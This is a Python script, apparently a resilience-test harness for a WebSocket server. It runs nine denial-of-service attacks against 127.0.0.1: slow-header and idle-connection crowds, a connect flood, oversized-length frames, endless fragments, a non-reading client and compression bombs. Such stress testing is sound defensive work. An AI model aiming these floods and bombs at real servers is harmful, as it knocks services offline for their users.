# SPDX-License-Identifier: Apache-2.0
"""Peers that want to keep others from being served. A program: attacker.py KIND PORT SOURCE, where SOURCE is one address, or
127.N.*.* for as many as there are below it. Prints "standing" when the attack is at its height, goes on until its input
ends, and prints what it did."""

import base64
import errno
import json
import os
import random
import resource
import select
import socket
import struct
import sys
import time
import zlib

STANDING = 2000  # sockets that a crowd keeps open
BATCH = 100  # at most so many new ones in one round ...
ROUND = 0.05  # ... of so many seconds
HEAD = (b"GET / HTTP/1.1\r\nHost: tv\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "
        + base64.b64encode(bytes(16)) + b"\r\n\r\n")
COMPRESSING = HEAD[:-2] + b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
BLOCKED = (errno.EAGAIN, errno.EINPROGRESS, errno.EWOULDBLOCK)


def source_of(pattern: str) -> str:
    return ".".join(str(random.randrange(1, 255)) if part == "*" else part for part in pattern.split("."))


def connect(port: int, pattern: str) -> socket.socket | None:
    sock = socket.socket()
    sock.setblocking(False)
    try:
        sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: ports are taken for each pair of addresses
        sock.bind((source_of(pattern), 0))
        sock.connect(("127.0.0.1", port))
    except OSError as error:
        if error.errno not in BLOCKED:
            sock.close()
            return None
    return sock


def is_over(sock: socket.socket) -> bool:
    try:
        sock.recv(65536)
        return True  # whatever it says, it is an answer that ends the connection
    except OSError as error:
        return error.errno not in BLOCKED


def has_ended() -> bool:
    return bool(select.select([sys.stdin], [], [], 0)[0])


def say(**what) -> None:
    print(json.dumps(what), flush=True)


def crowd(port: int, pattern: str, drips: bool) -> dict:
    """STANDING sockets that never ask, replaced as they are cut off; `drips`: each sends its request octet by octet."""
    sockets: dict = {}
    poll = select.epoll()
    counts = {"connected": 0, "cut off": 0}
    stood = False
    while not has_ended():
        began = time.monotonic()
        for descriptor, events in poll.poll(0, 4096):
            if is_over(sockets[descriptor][0]):
                sockets.pop(descriptor)[0].close()
                counts["cut off"] += 1
        for _ in range(min(BATCH, STANDING - len(sockets))):
            sock = connect(port, pattern)
            if sock:
                sockets[sock.fileno()] = [sock, 0]
                poll.register(sock, select.EPOLLIN | select.EPOLLHUP)
                counts["connected"] += 1
        for entry in random.sample(list(sockets.values()), len(sockets) // 20) if drips else ():
            try:
                entry[1] += entry[0].send(HEAD[entry[1]:entry[1] + 1]) if entry[1] < len(HEAD) - 1 else 0
            except OSError:
                pass
        if not stood and (len(sockets) >= STANDING or counts["cut off"] > STANDING):
            stood = True
            say(standing=len(sockets))
        time.sleep(max(0.0, ROUND - (time.monotonic() - began)))
    return {**counts, "standing": len(sockets)}


def connect_flood(port: int, pattern: str) -> dict:
    """Connects and resets as fast as it can."""
    counts = {"connected": 0}
    linger = struct.pack("ii", 1, 0)
    began = time.monotonic()
    while not has_ended():
        batch = [sock for sock in (connect(port, pattern) for _ in range(BATCH)) if sock]
        select.select([], batch, [], 0.05)
        for sock in batch:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
            sock.close()
        if counts["connected"] < 1000 <= counts["connected"] + len(batch):
            say(standing=1000)
        counts["connected"] += len(batch)
    return {**counts, "a second": round(counts["connected"] / (time.monotonic() - began))}


def upgraded(port: int, pattern: str, receive_buffer: int = 0, head: bytes = HEAD) -> socket.socket:
    sock = socket.socket()
    if receive_buffer:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.settimeout(20)
    sock.bind((source_of(pattern), 0))
    sock.connect(("127.0.0.1", port))
    sock.sendall(head)
    assert b" 101 " in sock.recv(4096)
    return sock


def huge_length(port: int, pattern: str) -> dict:
    """Frames that promise 2^63 and 2^63 - 1 octets, over and over."""
    counts = {"frames": 0, "failed by the server": 0}
    say(standing=1)
    while not has_ended():
        sock = upgraded(port, pattern)
        length = 2**63 - counts["frames"] % 2
        sock.sendall(b"\x82\xff" + struct.pack(">Q", length) + bytes(4) + b"x" * 1000)
        counts["frames"] += 1
        answer = sock.recv(4096)
        counts["failed by the server"] += answer[:1] == b"\x88" and answer[2:4] in (b"\x03\xea", b"\x03\xf1")  # 1002, 1009
        sock.close()
    return counts


def stream(port: int, pattern: str, payload: bytes) -> dict:
    """Fragments of messages that never end; anew whenever the server has had enough."""
    frame = b"\x00" + (bytes([0x80 | len(payload)]) if len(payload) < 126 else b"\xfe" + struct.pack(">H", len(payload))) + bytes(4) + payload
    octets = frame * (65536 // len(frame))
    counts = {"octets": 0, "cut off": 0}
    say(standing=1)
    sock = None
    while not has_ended():
        try:
            if not sock:
                sock = upgraded(port, pattern)
                sock.sendall(b"\x02\x80" + bytes(4))
            sock.sendall(octets)
            counts["octets"] += len(octets)
        except OSError:
            sock.close()
            sock = None
            counts["cut off"] += 1
    return counts


def never_reads(port: int, pattern: str) -> dict:
    """Sends what will be echoed, and takes nothing; three at a time, which the app that echoes can hold by its own bounds."""
    sockets = []
    counts = {"octets": 0, "cut off": 0}
    octets = b"\x82\xfe\xff\xff" + bytes(4 + 65535)
    say(standing=3)
    while not has_ended():
        while len(sockets) < 3:
            sockets.append(upgraded(port, pattern, 4096))
            sockets[-1].setblocking(False)
        writable = select.select([], sockets, [], 0.1)[1]
        for sock in writable:
            try:
                counts["octets"] += sock.send(octets)
            except OSError as error:
                if error.errno not in BLOCKED:
                    sockets.remove(sock)
                    sock.close()
                    counts["cut off"] += 1
    return counts


def compressed(size: int) -> bytes:
    """A frame that holds a message of that many zeros."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    payload = b"".join(deflater.compress(bytes(min(1 << 20, size - at))) for at in range(0, size, 1 << 20))
    payload += deflater.flush(zlib.Z_SYNC_FLUSH)[:-4]
    length = struct.pack(">BH", 0xFE, len(payload)) if len(payload) < 65536 else struct.pack(">BQ", 0xFF, len(payload))
    return b"\xc2" + length + bytes(4) + payload


def bomb(port: int, pattern: str) -> dict:
    """A quarter of a megabyte that would inflate to 256 MiB, over and over."""
    frame = compressed(256 << 20)
    counts = {"bombs": 0, "failed by the server": 0}
    say(standing=1)
    while not has_ended():
        sock = upgraded(port, pattern, head=COMPRESSING)
        try:
            sock.sendall(frame)
        except OSError:
            pass  # it has heard enough
        counts["bombs"] += 1
        counts["failed by the server"] += sock.recv(4096)[2:4] == b"\x03\xf1"  # 1009
        sock.close()
    return counts


def legal_bombs(port: int, pattern: str) -> dict:
    """Messages of 4 MiB in frames of 4 KiB, as fast as they are taken, from one that takes no answer."""
    frame = compressed(4 << 20)
    counts = {"octets": 0, "cut off": 0}
    sock, at = None, 0
    say(standing=1)
    while not has_ended():
        if not sock:
            sock, at = upgraded(port, pattern, 4096, COMPRESSING), 0
            sock.setblocking(False)
        try:
            if select.select([], [sock], [], 0.1)[1]:
                sent = sock.send(frame[at:])
                at = (at + sent) % len(frame)
                counts["octets"] += sent
        except OSError as error:
            if error.errno not in BLOCKED:
                sock.close()
                sock = None
                counts["cut off"] += 1
    return counts


KINDS = {
    "slow headers": lambda port, pattern: crowd(port, pattern, True),
    "idle connections": lambda port, pattern: crowd(port, pattern, False),
    "connect flood": connect_flood,
    "length of 2^63": huge_length,
    "endless fragments": lambda port, pattern: stream(port, pattern, bytes(1000)),
    "endless empty fragments": lambda port, pattern: stream(port, pattern, b""),
    "never reads": never_reads,
    "deflate bomb": bomb,
    "messages that inflate a thousandfold": legal_bombs,
}


def main() -> None:
    kind, port, pattern = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    os.nice(5)  # the attack is not to win for want of processors
    say(done=KINDS[kind](port, pattern))


if __name__ == "__main__":
    main()
